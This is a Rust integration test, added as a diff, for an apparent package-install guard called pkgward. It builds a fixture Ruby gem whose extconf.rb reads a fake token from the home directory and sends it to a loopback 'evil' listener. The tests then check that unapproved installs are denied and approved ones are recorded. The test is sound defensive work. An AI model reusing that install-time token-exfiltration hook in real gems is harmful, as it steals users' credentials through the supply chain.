@@ -1,0 +1,270 @@
+//! gem's install-time code end to end: the real `gem` behind the pkgward
+//! shim against a gem source served on 127.0.0.1 (a static index built by
+//! the real `gem build` and `gem generate_index`), with a fixture gem whose
+//! native extension (`extconf.rb`) writes a marker and sends a fake token
+//! read from `$HOME` to a loopback listener. Unapproved: the install is
+//! denied before anything of the gem runs; approved: it installs, recorded.
+//! Skipped (with a message) where Ruby is not installed; CI installs it.
+
+mod support;
+
+use std::ffi::OsString;
+use std::path::Path;
+use std::process::{Command, Output};
+use std::sync::OnceLock;
+
+use support::guard::{evil, pkgward_bin, text, Guarded};
+use support::shared;
+use support::tools::find_in_path;
+
+fn ruby() -> bool {
+    find_in_path("gem").is_some()
+}
+
+/// The fixture source URL, or `None` without Ruby.
+fn gem_source() -> Option<String> {
+    static DONE: OnceLock<bool> = OnceLock::new();
+    let ok = *DONE.get_or_init(|| {
+        if !ruby() {
+            return false;
+        }
+        let tmp = tempfile::tempdir().unwrap();
+        let src = tmp.path().join("src");
+        let repo = tmp.path().join("repo");
+        std::fs::create_dir_all(src.join("lib")).unwrap();
+        std::fs::create_dir_all(src.join("ext/pwx")).unwrap();
+        std::fs::create_dir_all(repo.join("gems")).unwrap();
+        let spec = |name: &str, version: &str, extra: &str| {
+            format!(
+                "Gem::Specification.new do |s|\n  s.name = '{name}'\n  s.version = '{version}'\n  \
+                 s.summary = 'pkgward fixture'\n  s.authors = ['pkgward']\n  s.license = 'MIT'\n{extra}end\n"
+            )
+        };
+        let port = evil().port();
+        // The extension: writes a marker, sends the token, then writes a
+        // Makefile that builds nothing (so an approved install succeeds).
+        std::fs::write(
+            src.join("ext/pwx/extconf.rb"),
+            format!(
+                "d = ENV['FIXTURE_MARKER_DIR']\n\
+                 File.write(File.join(d, 'gem-ext-ran'), \"ran\\n\") if d\n\
+                 begin\n  require 'socket'\n  \
+                 tok = File.read(File.join(Dir.home, '.fake-token')).strip rescue ''\n  \
+                 s = TCPSocket.new('127.0.0.1', {port})\n  s.write(\"GET /gem?t=#{{tok}} HTTP/1.0\\r\\n\\r\\n\")\n  s.close\n\
+                 rescue StandardError\nend\n\
+                 File.write('Makefile', \"all:\\n\\ninstall:\\n\\nclean:\\n\")\n"
+            ),
+        )
+        .unwrap();
+        std::fs::write(src.join("lib/pw_scr.rb"), "module PwScr; VALUE = 1; end\n").unwrap();
+        std::fs::write(
+            src.join("ext.gemspec"),
+            spec(
+                "pw-scr-ext",
+                "1.0.0",
+                "  s.files = ['lib/pw_scr.rb', 'ext/pwx/extconf.rb']\n  \
+                 s.extensions = ['ext/pwx/extconf.rb']\n  s.add_dependency 'pw-scr-dep', '>= 1'\n",
+            ),
+        )
+        .unwrap();
+        std::fs::write(
+            src.join("dep.gemspec"),
+            spec("pw-scr-dep", "2.0.0", "  s.files = ['lib/pw_scr.rb']\n"),
+        )
+        .unwrap();
+        std::fs::write(
+            src.join("app.gemspec"),
+            spec(
+                "pw-scr-app",
+                "1.0.0",
+                "  s.files = ['lib/pw_scr.rb']\n  s.add_dependency 'pw-scr-ext', '>= 1'\n",
+            ),
+        )
+        .unwrap();
+        let gem = |args: &[&str], dir: &Path| {
+            let out = Command::new("gem")
+                .args(args)
+                .current_dir(dir)
+                .env("HOME", tmp.path())
+                .env_remove("GEMRC")
+                .output()
+                .unwrap();
+            assert!(out.status.success(), "gem {args:?}: {}", text(&out.stderr));
+        };
+        for (spec, file) in [
+            ("ext.gemspec", "pw-scr-ext-1.0.0.gem"),
+            ("dep.gemspec", "pw-scr-dep-2.0.0.gem"),
+            ("app.gemspec", "pw-scr-app-1.0.0.gem"),
+        ] {
+            gem(&["build", spec], &src);
+            std::fs::copy(src.join(file), repo.join("gems").join(file)).unwrap();
+        }
+        gem(&["generate_index", "-d", repo.to_str().unwrap()], &repo);
+        let mut stack = vec![repo.clone()];
+        while let Some(d) = stack.pop() {
+            for e in std::fs::read_dir(&d).unwrap() {
+                let p = e.unwrap().path();
+                if p.is_dir() {
+                    stack.push(p);
+                } else {
+                    let rel = p.strip_prefix(&repo).unwrap().to_string_lossy().into_owned();
+                    shared().server.serve(
+                        &format!("/gems-scr/{rel}"),
+                        "application/octet-stream",
+                        std::fs::read(&p).unwrap(),
+                    );
+                }
+            }
+        }
+        true
+    });
+    ok.then(|| format!("{}/gems-scr/", shared().base_url()))
+}
+
+fn guarded(src: &str, mode: &str, allow: &[&str]) -> Guarded {
+    let allow: Vec<String> = allow.iter().map(|a| format!("{a:?}")).collect();
+    let g = Guarded::new(&format!(
+        "mode = \"{mode}\"\n[registries]\nrubygems = [\"{src}\"]\n[scripts]\nallow = [{}]\n",
+        allow.join(", ")
+    ));
+    std::os::unix::fs::symlink(pkgward_bin(), g.shims.join("gem")).unwrap();
+    std::fs::write(g.sb.home.join(".fake-token"), format!("{}\n", token(&g))).unwrap();
+    g
+}
+
+fn token(g: &Guarded) -> String {
+    let name = g.sb.root().file_name().unwrap().to_string_lossy();
+    format!(
+        "tok-gem-{}",
+        name.replace(|c: char| !c.is_ascii_alphanumeric(), "")
+    )
+}
+
+fn token_sent(g: &Guarded) -> bool {
+    let tok = token(g);
+    evil().connections().iter().any(|c| c.text().contains(&tok))
+}
+
+fn gem_install(g: &Guarded, src: &str, name: &str) -> Output {
+    let dir = g.sb.root().join("gemhome");
+    let extra: Vec<(String, OsString)> = vec![("GEM_HOME".into(), dir.clone().into())];
+    g.sb.command("gem", &[g.pkgward_env(), extra])
+        .args([
+            "install",
+            "--no-document",
+            "--install-dir",
+            dir.to_str().unwrap(),
+            "--clear-sources",
+            "--source",
+            src,
+            name,
+        ])
+        .output()
+        .unwrap()
+}
+
+fn scripts(g: &Guarded) -> Vec<serde_json::Value> {
+    g.audit()
+        .into_iter()
+        .filter(|r| r["kind"] == "script")
+        .collect()
+}
+
+#[test]
+fn unapproved_native_extension_denies_the_install_before_it_runs() {
+    let Some(src) = gem_source() else {
+        eprintln!("skipped: ruby is not installed");
+        return;
+    };
+    let g = guarded(&src, "enforce", &[]);
+    // Through a dependency: pw-scr-app needs pw-scr-ext.
+    let out = gem_install(&g, &src, "pw-scr-app");
+    let err = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(77), "{err}");
+    assert!(
+        err.contains("pkgward approve rubygems:pw-scr-ext@1.0.0"),
+        "{err}"
+    );
+    assert!(err.contains("ext/pwx/extconf.rb"), "{err}");
+    assert!(g.sb.marker("gem-ext-ran").is_none(), "the extension ran");
+    assert!(!token_sent(&g), "the token reached the listener");
+    assert!(!g
+        .sb
+        .root()
+        .join("gemhome/gems")
+        .join("pw-scr-ext-1.0.0")
+        .exists());
+    assert!(!g
+        .sb
+        .root()
+        .join("gemhome/gems")
+        .join("pw-scr-app-1.0.0")
+        .exists());
+    let recs = scripts(&g);
+    let r = recs
+        .iter()
+        .find(|r| r["package"] == "pw-scr-ext")
+        .unwrap_or_else(|| panic!("{recs:#?}"));
+    assert_eq!(r["decision"], "deny");
+    assert_eq!(r["script"], "extension");
+    assert_eq!(r["command"], "ext/pwx/extconf.rb");
+    assert_eq!(r["ran"], false);
+    assert_eq!(r["ecosystem"], "rubygems");
+    // A second try reads the cached metadata: still denied.
+    let out = gem_install(&g, &src, "pw-scr-ext");
+    assert_eq!(out.status.code(), Some(77), "{}", text(&out.stderr));
+    assert!(g.sb.marker("gem-ext-ran").is_none());
+}
+
+#[test]
+fn approved_native_extension_installs_and_is_recorded() {
+    let Some(src) = gem_source() else {
+        eprintln!("skipped: ruby is not installed");
+        return;
+    };
+    let g = guarded(&src, "enforce", &["rubygems:pw-scr-ext@1.0.0"]);
+    let out = gem_install(&g, &src, "pw-scr-app");
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(
+        g.sb.marker("gem-ext-ran").is_some(),
+        "the approved extension did not build"
+    );
+    assert!(g
+        .sb
+        .root()
+        .join("gemhome/gems/pw-scr-app-1.0.0/lib/pw_scr.rb")
+        .is_file());
+    let recs = scripts(&g);
+    let r = recs.iter().find(|r| r["package"] == "pw-scr-ext").unwrap();
+    assert_eq!(r["decision"], "approved");
+    assert_eq!(r["ran"], true);
+    assert_eq!(r["exit_code"], 0);
+    assert!(
+        r["approved_by"]
+            .as_str()
+            .unwrap()
+            .starts_with("rubygems:pw-scr-ext@1.0.0 ("),
+        "{r}"
+    );
+    // A plain gem is not recorded as install-time code.
+    assert!(
+        !recs.iter().any(|r| r["package"] == "pw-scr-dep"),
+        "{recs:#?}"
+    );
+}
+
+#[test]
+fn audit_mode_installs_and_records_would_deny() {
+    let Some(src) = gem_source() else {
+        eprintln!("skipped: ruby is not installed");
+        return;
+    };
+    let g = guarded(&src, "audit", &[]);
+    let out = gem_install(&g, &src, "pw-scr-ext");
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(g.sb.marker("gem-ext-ran").is_some());
+    let recs = scripts(&g);
+    let r = recs.iter().find(|r| r["package"] == "pw-scr-ext").unwrap();
+    assert_eq!(r["decision"], "would-deny");
+    assert_eq!(r["ran"], true);
+}
